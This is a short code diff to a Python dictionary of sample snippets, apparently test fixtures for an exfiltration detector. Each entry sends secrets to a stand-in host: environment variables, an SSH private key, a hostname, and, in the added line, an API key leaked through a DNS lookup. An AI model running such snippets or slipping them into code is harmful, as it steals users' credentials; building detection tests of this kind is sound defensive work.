@@ -7,6 +7,7 @@ SENT = {
     "loop": "import os, urllib.request as u\nfor k, v in os.environ.items():\n    u.urlopen('http://host.example/?' + k + v)\n",
     "key": "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://host.example', data=key)\n",
     "collector": "import requests, socket\nrequests.get('https://webhook.site/x?h=' + socket.gethostname())\n",
+    "name server": "import os, socket\nsocket.gethostbyname(os.environ['API_KEY'] + '.host.example')\n",
     "shell": "import os\nos.system('env | curl -d @- https://host.example')\n",
 }
 
